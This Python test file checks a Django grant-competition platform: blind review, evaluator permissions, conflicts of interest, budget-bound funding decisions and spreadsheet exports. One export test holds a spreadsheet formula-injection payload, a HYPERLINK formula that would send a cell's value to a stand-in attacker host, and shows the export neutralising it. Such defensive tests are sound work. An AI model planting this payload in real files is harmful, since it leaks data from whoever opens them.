import csv
import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import TestCase
from django.utils import timezone, translation

from civica.accounts.roles import Role
from civica.accounts.tests.factories import UserFactory
from civica.calls import evaluation
from civica.calls.models import (
    Application,
    ApplicationFile,
    ApplicationStatus,
    AuditEntry,
    CallKind,
    CallStatus,
    Conflict,
    Criterion,
    Decision,
    FieldKind,
    FormField,
)
from civica.calls.tests.factories import CallFactory
from civica.network.tests.factories import OrganisationFactory


@pytest.fixture(autouse=True)
def _in_english():
    with translation.override("en"):
        yield


@pytest.fixture
def competition(db):
    """A blind competition after its deadline, in evaluation, with two criteria and three entries."""
    call = CallFactory(kind=CallKind.COMPETITION, budget_total=Decimal("50000"), amount_min=Decimal("10000"),
                       amount_max=Decimal("30000"),
                       opens_at=timezone.now() - datetime.timedelta(days=30),
                       closes_at=timezone.now() - datetime.timedelta(days=1))
    FormField.objects.create(call=call, key="authors", kind=FieldKind.TEAM_MEMBERS, label_ro="Autori",
                             label_en="Authors", position=10)
    FormField.objects.create(call=call, key="studio", kind=FieldKind.SHORT_TEXT, label_ro="Biroul",
                             label_en="Studio", position=11, identifying=True)
    Criterion.objects.create(call=call, name_ro="Calitate", name_en="Quality", weight=2)
    Criterion.objects.create(call=call, name_ro="Context", name_en="Context", weight=1)
    call.status = CallStatus.EVALUATION
    call.save()
    for number in range(3):
        person = UserFactory(display_name=f"Arhitect Secret {number}", email=f"secret{number}@studio.example")
        application = Application.objects.create(
            call=call, applicant=person, reference=f"COMP-{number}", title=f"Piața nouă {number}",
            amount_requested=Decimal("20000"), status=ApplicationStatus.SUBMITTED, version=1,
            organisation=OrganisationFactory(name=f"Studio Ascuns {number}"),
            submitted_at=call.closes_at - datetime.timedelta(hours=number + 1),
            answers={"summary": "A square with trees", "authors": [{"name": f"Autor Ascuns {number}", "role": "lead"}],
                     "studio": f"Biroul Ascuns {number}"},
        )
        from django.core.files.base import ContentFile

        ApplicationFile.objects.create(application=application, field_key="portfolio",
                                       file=ContentFile(b"%PDF-1.4 x", name=f"{application.code}-portfolio.pdf"),
                                       original_name=f"planse-arhitect-secret-{number}.pdf",
                                       content_type="application/pdf", size=10, sha256="0" * 64)
    return call


def appoint(call, count=2):
    editor = UserFactory(role=Role.EDITOR)
    people = UserFactory.create_batch(count)
    for person in people:
        evaluation.evaluator_appoint(call=call, user=person, by=editor)
    return editor, people


IDENTIFYING = ["Arhitect Secret", "secret0@studio.example", "Studio Ascuns", "Autor Ascuns", "Biroul Ascuns",
               "planse-arhitect-secret", "COMP-0"]


@pytest.mark.django_db
def test_blind_review_pages_never_show_who_applied(client, competition):
    editor, (evaluator, _other) = appoint(competition)
    evaluation.assign_automatically(call=competition, per_application=2, by=editor)
    client.force_login(evaluator)
    pages = ["/en/calls/", f"/en/calls/{competition.slug}/", "/en/calls/reviews/", "/ro/calls/reviews/"]
    for application in competition.applications.all():
        pages += [f"/en/calls/{competition.slug}/reviews/{application.code}/",
                  f"/ro/calls/{competition.slug}/reviews/{application.code}/"]
    for url in pages:
        page = client.get(url).content.decode()
        for secret in IDENTIFYING:
            assert secret not in page, (url, secret)
    stored = competition.applications.first().files.get()
    response = client.get(f"/en/calls/{competition.slug}/files/{stored.pk}/")
    assert "planse" not in response["Content-Disposition"]
    assert stored.application.code in response["Content-Disposition"]
    assert "A square with trees" in client.get(pages[4]).content.decode()


@pytest.mark.django_db
def test_evaluators_see_only_their_assignments(client, competition):
    editor, (evaluator, other) = appoint(competition)
    first, second, _third = competition.applications.order_by("reference")
    evaluation.assignment_add(application=first, evaluator=evaluator, by=editor)
    client.force_login(evaluator)
    assert client.get(f"/en/calls/{competition.slug}/reviews/{first.code}/").status_code == 200
    assert client.get(f"/en/calls/{competition.slug}/reviews/{second.code}/").status_code == 404
    elsewhere = CallFactory()
    assert client.get(f"/en/calls/{elsewhere.slug}/reviews/{first.code}/").status_code == 404
    for page in ("manage/", "manage/ranking/", "manage/applications.csv", "manage/applications.xlsx"):
        assert client.get(f"/en/calls/{competition.slug}/{page}").status_code == 403
    client.force_login(UserFactory())
    assert client.get(f"/en/calls/{competition.slug}/reviews/{first.code}/").status_code == 404
    client.logout()
    assert client.get(f"/en/calls/{competition.slug}/manage/").status_code == 302


@pytest.mark.django_db
def test_conflict_excludes_the_evaluator(client, competition):
    editor, (evaluator, other) = appoint(competition)
    application = competition.applications.first()
    evaluation.assignment_add(application=application, evaluator=evaluator, by=editor)
    client.force_login(evaluator)
    url = f"/en/calls/{competition.slug}/reviews/{application.code}/"
    client.post(url, {"action": "conflict", "reason": "I taught one of the authors"})
    assert Conflict.objects.filter(evaluator=evaluator).exists()
    assert client.get(url).status_code == 404
    with pytest.raises(ValidationError, match="conflict of interest"):
        evaluation.assignment_add(application=application, evaluator=evaluator, by=editor)
    evaluation.assign_automatically(call=competition, per_application=2, by=editor)
    assert not application.assignments.filter(evaluator=evaluator).exists()


def score_all(client, call, evaluator, values):
    criteria = list(call.criteria.order_by("pk"))
    for application in call.applications.order_by("reference"):
        assignment = application.assignments.filter(evaluator=evaluator).first()
        if assignment is None:
            continue
        quality, context = values[application.reference]
        client.force_login(evaluator)
        client.post(f"/en/calls/{call.slug}/reviews/{application.code}/", {
            f"score_{criteria[0].pk}": quality, f"score_{criteria[1].pk}": context, "comment": "ok", "submit": "1"})


@pytest.mark.django_db
def test_review_drafts_validation_and_submission(client, competition):
    editor, (evaluator, _other) = appoint(competition)
    application = competition.applications.first()
    evaluation.assignment_add(application=application, evaluator=evaluator, by=editor)
    quality, context = competition.criteria.order_by("pk")
    client.force_login(evaluator)
    url = f"/en/calls/{competition.slug}/reviews/{application.code}/"
    page = client.post(url, {f"score_{quality.pk}": "11", f"score_{context.pk}": ""}).content.decode()
    assert "Quality: give a score from 0 to 10." in page and 'value="11"' in page
    client.post(url, {f"score_{quality.pk}": "8,5"})
    page = client.post(url, {f"score_{quality.pk}": "8,5", "submit": "1"}).content.decode()
    assert "Context: a score is needed to submit." in page
    client.post(url, {f"score_{quality.pk}": "8,5", f"score_{context.pk}": "6", "submit": "1"})
    review = application.assignments.get().review
    assert review.status == "submitted" and review.scores.get(criterion=quality).value == Decimal("8.5")
    with pytest.raises(PermissionDenied, match="can no longer change"):
        evaluation.review_save(assignment=review.assignment, by=evaluator, scores={}, comment="", submit=False)


@pytest.mark.django_db
def test_ranking_lock_reveals_identities_and_decisions_respect_the_budget(client, competition):
    editor, (ana, dan) = appoint(competition)
    evaluation.assign_automatically(call=competition, per_application=2, by=editor)
    score_all(client, competition, ana, {"COMP-0": (9, 9), "COMP-1": (5, 5), "COMP-2": (7, 7)})
    score_all(client, competition, dan, {"COMP-0": (8, 8), "COMP-1": (9, 9), "COMP-2": (1, 1)})
    client.force_login(editor)
    page = client.get(f"/en/calls/{competition.slug}/manage/ranking/").content.decode()
    assert "Arhitect Secret" not in page and "COMP-0" not in page
    assert "strong disagreement" in page  # COMP-2: 7 and 1
    rows = list(csv.reader(io.StringIO(b"".join(client.get(
        f"/en/calls/{competition.slug}/manage/applications.csv").streaming_content).decode())))
    assert "applicant" not in rows[0] and "studio" not in rows[0] and "authors" not in rows[0]
    with pytest.raises(ValidationError, match="once the ranking is locked"):
        evaluation.decide(application=competition.applications.first(), by=editor, decision="funded", amount=10000)
    client.post(f"/en/calls/{competition.slug}/manage/", {"action": "move", "to": "ranking_locked"})
    competition.refresh_from_db()
    assert set(AuditEntry.objects.filter(call=competition).values_list("action", flat=True)) >= {
        "status:ranking_locked", "identities_revealed"}
    page = client.get(f"/en/calls/{competition.slug}/manage/ranking/").content.decode()
    assert page.index("COMP-0") < page.index("COMP-2")  # 8.5 before 4
    assert "Studio Ascuns 0" in page
    first, second, third = (competition.applications.get(reference=f"COMP-{n}") for n in range(3))
    evaluation.decide(application=first, by=editor, decision="funded", amount=Decimal("30000"), feedback="Bravo")
    with pytest.raises(ValidationError) as refused:
        evaluation.decide(application=second, by=editor, decision="funded", amount=Decimal("25000"))
    expected = "55,000.00 lei, over the call's budget of 50,000.00 lei (already funded: 30,000.00 lei)"
    assert expected in str(refused.value)
    evaluation.decide(application=second, by=editor, decision="reserve", feedback="Close")
    evaluation.decide(application=third, by=editor, decision="rejected", feedback="Not this time")
    with TestCase.captureOnCommitCallbacks(execute=True):
        evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)
    assert len(mail.outbox) == 3
    assert "Bravo" in next(message.body for message in mail.outbox if message.to == [first.applicant.email])
    client.logout()
    public = client.get(f"/en/calls/{competition.slug}/").content.decode()
    assert "Funded projects" in public and "30,000.00 lei" in public
    client.force_login(first.applicant)
    assert "Bravo" in client.get(f"/en/calls/{competition.slug}/application/").content.decode()


@pytest.mark.django_db
def test_status_moves_one_step_with_checks(competition):
    editor = UserFactory(role=Role.EDITOR)
    with pytest.raises(ValidationError, match="cannot become"):
        evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)
    open_call = CallFactory()
    with pytest.raises(ValidationError, match="after the deadline"):
        evaluation.call_move(call=open_call, to=CallStatus.EVALUATION, by=editor)
    with pytest.raises(PermissionDenied):
        evaluation.call_move(call=competition, to=CallStatus.RANKING_LOCKED, by=UserFactory())
    with time_machine.travel(open_call.closes_at + datetime.timedelta(seconds=1), tick=False):
        with pytest.raises(ValidationError, match="criteria"):
            evaluation.call_move(call=open_call, to=CallStatus.EVALUATION, by=editor)


@pytest.mark.django_db
def test_xlsx_export_is_a_real_workbook(client, competition):
    editor = UserFactory(role=Role.EDITOR)
    client.force_login(editor)
    response = client.get(f"/en/calls/{competition.slug}/manage/applications.xlsx")
    content = b"".join(response.streaming_content)
    assert content[:2] == b"PK"
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        shared = workbook.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in workbook.namelist() \
            else workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "Piața nouă 0" in shared and "Arhitect Secret" not in shared


@pytest.mark.django_db
def test_ranking_page_query_count_is_constant(client, competition, assert_constant_queries):
    editor, (ana, dan) = appoint(competition)
    evaluation.assign_automatically(call=competition, per_application=2, by=editor)
    client.force_login(editor)

    def more():
        for number in range(5):
            Application.objects.create(call=competition, applicant=UserFactory(), reference=f"MORE-{number}",
                                       title="x", status=ApplicationStatus.SUBMITTED, submitted_at=timezone.now())
        evaluation.assign_automatically(call=competition, per_application=2, by=editor)

    assert_constant_queries(client, f"/en/calls/{competition.slug}/manage/ranking/", more)


@pytest.mark.django_db
def test_decision_for_funding_needs_an_amount_within_limits(competition):
    editor = UserFactory(role=Role.EDITOR)
    competition.status = CallStatus.RANKING_LOCKED
    competition.save()
    application = competition.applications.first()
    with pytest.raises(ValidationError, match="needs an amount"):
        evaluation.decide(application=application, by=editor, decision=Decision.FUNDED, amount=None)
    with pytest.raises(ValidationError, match="needs an amount"):
        evaluation.decide(application=application, by=editor, decision=Decision.FUNDED, amount=Decimal("99"))


@pytest.mark.django_db
def test_results_are_published_only_once_every_submitted_application_has_a_decision(client, competition):
    """Issue 12, item 3: "Results published" with nothing decided listed nothing."""
    editor = UserFactory(role=Role.EDITOR)
    evaluation.call_move(call=competition, to=CallStatus.RANKING_LOCKED, by=editor)
    first, second, third = (competition.applications.get(reference=f"COMP-{n}") for n in range(3))
    Application.objects.create(call=competition, applicant=UserFactory(), reference="COMP-DRAFT", title="Draft")
    client.force_login(editor)
    page = client.post(f"/en/calls/{competition.slug}/manage/", {"action": "move", "to": "results_published"},
                       follow=True).content.decode()
    assert "3 applications have no decision yet" in page
    competition.refresh_from_db()
    assert competition.status == CallStatus.RANKING_LOCKED
    evaluation.decide(application=first, by=editor, decision="funded", amount=Decimal("30000"))
    evaluation.decide(application=second, by=editor, decision="rejected")
    with pytest.raises(ValidationError, match="1 application has no decision yet"):
        evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)
    evaluation.decide(application=third, by=editor, decision="reserve")
    evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)  # the draft does not count
    competition.refresh_from_db()
    assert competition.status == CallStatus.RESULTS_PUBLISHED


@pytest.mark.django_db
def test_exports_keep_an_applicants_formula_as_text(client, competition):
    """Issue 12, item 19: a title "=HYPERLINK(…)" was a live formula in the editor's workbook."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    competition.applications.filter(reference="COMP-0").update(title=formula)
    client.force_login(UserFactory(role=Role.EDITOR))
    response = client.get(f"/en/calls/{competition.slug}/manage/applications.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    rows = list(csv.reader(io.StringIO(b"".join(client.get(
        f"/en/calls/{competition.slug}/manage/applications.csv").streaming_content).decode())))
    assert ["'" + formula] == [value for row in rows for value in row if formula in value]


@pytest.mark.django_db
def test_bad_ids_and_values_posted_by_editors_get_a_message_not_an_error(client, competition):
    """Issue 12, item 23 (calls): every id and value an editor posts is read through a form."""
    editor = UserFactory(role=Role.EDITOR)
    client.force_login(editor)
    manage, ranking = f"/en/calls/{competition.slug}/manage/", f"/en/calls/{competition.slug}/manage/ranking/"
    competition.status = CallStatus.RANKING_LOCKED
    competition.save()
    other = CallFactory()
    stranger = Application.objects.create(call=other, applicant=UserFactory(), reference="OTHER-1", title="x",
                                          status=ApplicationStatus.SUBMITTED)
    for bad in ("abc", "²", "1" * 30, "\x00", str(stranger.pk)):
        response = client.post(ranking, {"application": bad, "decision": "rejected"})
        expected = "not allowed" if bad == "\x00" else "This application is not in this call."
        assert response.status_code == 400 and expected in response.content.decode(), bad
    assert not Application.objects.exclude(decision="").exists()
    page = client.post(manage, {"action": "appoint", "email": "ana@@example.org"}).content.decode()
    assert "Write a valid e-mail address." in page and 'value="ana@@example.org"' in page
    response = client.post(manage, {"action": "appoint", "email": "ana\x00@example.org"})
    assert response.status_code == 400 and "not allowed" in response.content.decode()
    question = competition.questions.create(question="Until when?", asked_by=UserFactory())
    assert "Until when?" in client.get(manage).content.decode()  # listed to be answered
    response = client.post(manage, {"action": "answer", "question": question.pk, "answer": "Until\x00 June"})
    assert response.status_code == 400 and "not allowed" in response.content.decode()
    response = client.post(manage, {"action": "answer", "question": question.pk, "answer": ""})
    assert response.status_code == 400 and "message-error" in response.content.decode()
    for data in ({"action": "answer", "question": "abc", "answer": "Soon"},
                 {"action": "assign", "application": "abc", "evaluator": "²"},
                 {"action": "auto_assign", "per": "²"},
                 {"action": "move", "to": "nowhere"}):
        response = client.post(manage, data, follow=True)
        assert response.status_code in (200, 400), data
        assert "message-error" in response.content.decode(), data
    question.refresh_from_db()
    assert question.answer == ""
    assert client.get(f"/en/calls/{competition.slug}/receipts/%00/1/").status_code == 400  # the site's NUL guard
    assert client.get(f"/en/calls/{competition.slug}/reviews/%00/").status_code == 400


@pytest.mark.django_db
def test_evaluators_see_a_dash_for_an_empty_answer_never_none(client, competition):
    """Issue 12, item 15: the evaluator's view printed "None" for an empty answer."""
    # The call's form already asks for a "summary" (long text).
    FormField.objects.create(call=competition, key="budget_total", kind=FieldKind.MONEY, label_ro="Buget",
                             label_en="Budget", position=2, required=False)
    editor, (evaluator, _other) = appoint(competition)
    application = competition.applications.get(reference="COMP-0")
    application.answers = {"summary": None, "budget_total": "25000"}
    application.save()
    evaluation.assignment_add(application=application, evaluator=evaluator, by=editor)
    client.force_login(evaluator)
    page = client.get(f"/ro/calls/{competition.slug}/reviews/{application.code}/").content.decode()
    assert "None" not in page and "25.000 lei" in page
